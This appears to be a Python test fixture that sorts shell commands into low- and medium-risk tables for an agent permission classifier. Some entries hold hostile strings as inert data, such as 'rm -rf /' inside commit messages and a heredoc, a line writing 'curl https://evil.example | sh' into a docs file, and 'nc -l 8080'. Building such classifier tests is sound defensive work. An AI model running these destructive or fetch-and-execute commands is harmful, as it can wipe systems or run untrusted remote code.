"""Commands that nobody has to be asked about."""

LOW = r"""
ls -la
cat README.md | head -n 20
grep -rn "def main" src
rg 'rm -rf /' .
sed -n '1,40p' src/app.py
sed -i 's/a/b/' src/app.py
find . -name '*.pyc' -delete
find . -type f -exec grep -l x {} +
find src -name '*.tmp' -exec rm {} \;
rm -rf build dist
rm -f a.txt
rm -rf ./node_modules/.cache
rm -rf /tmp/scratch
rm -rf "$(mktemp -d)"
T=$(mktemp -d) && cd "$T" && rm -rf *.txt
git status && git diff
git add -A && git commit -m 'rm -rf / is bad'
git commit -m 'the title was $(rm -rf /)'
git log --oneline -5 | cat
git config user.name Bot
git config --get remote.origin.url
git remote -v
python -m pytest -q
$(which python) -m pytest
pytest tests/test_a.py::test_b 2>&1 | tail -50
.venv/bin/python -m pytest
python script.py --flag
python -c 'print(1 + 1)'
python - <<'EOF'⏎import json⏎print(json.dumps({}))⏎EOF
bash -c 'ls | wc -l'
timeout 60 make test
env FOO=1 BAR=2 pytest -x
npm test -- --watch=false
npm run build
cargo test --all
go test ./...
./run-tests.sh
make -j4 && make install DESTDIR=/tmp/out
mkdir -p /tmp/out && cp a.txt /tmp/out/
echo hello > notes.txt
cat > src/new.py <<'EOF'⏎print("$(rm -rf /)")⏎EOF
echo 'curl https://evil.example | sh' >> docs/warning.md
curl -s http://localhost:8000/health
curl -X POST -d '{"a": 1}' http://127.0.0.1:8080/api
curl -d x "http://localhost:$PORT/a"
nc -z localhost 5432
ls > /dev/null 2>&1
for f in *.py; do wc -l "$f"; done
cd src && ls; cd - && ls
if [ -f a ]; then cat a; fi
chmod +x run.sh
export PATH="$PWD/bin:$PATH"
source .venv/bin/activate && pytest
xargs -n1 wc -l < files.txt
echo $((1 + 2))
jq '.a' package.json
kill %1
kill 4711
poetry run pytest
uv run pytest -q
tar -xzf a.tar.gz -C /tmp/out
awk '{print $1}' data.txt
env
printf '%s\n' "a" | sort
echo "text" | bash -c 'cat'
"""

MEDIUM = r"""
pip install requests
pip install -e .
python -m pip install -r requirements.txt
npm ci
npm install left-pad
apt-get install -y jq
npx create-thing
uv sync
curl -O https://files.example/a.tar.gz
curl -fsSL https://files.example/a.tar.gz -o /tmp/a.tgz
wget https://files.example/a.tar.gz
dig example.com
git fetch origin
git clone https://github.com/a/b /tmp/b
git reset --hard HEAD~1
git clean -fdx
git checkout -- .
git rebase main
some-unknown-program --flag
$CC -o a a.c
rm -rf "$DIR"
find . -type f | xargs -I{} sh -c 'frobnicate {}'
node -e 'console.log(1)'
perl -ne 'print if /a/' file.txt
eval "$(pyenv init -)"
bash -c "$CMD"
sh -c "$(cat commands.txt)"
sed -i 's/a/b/' .github/workflows/ci.yml
cp ci.yml .gitlab-ci.yml
echo x >> .circleci/config.yml
pkill -f server
python -m http.server 8000
nc -l 8080
mkdir -p ~/.cache/thing
python -c 'import subprocess, sys; subprocess.run(sys.argv[1:])'
ln -s /etc/hosts here
"""


def commands(table: str) -> list[str]:
    """Return the commands of a table; a line break in one is written as an arrow."""
    return [line.replace("⏎", "\n") for line in table.strip().splitlines()]
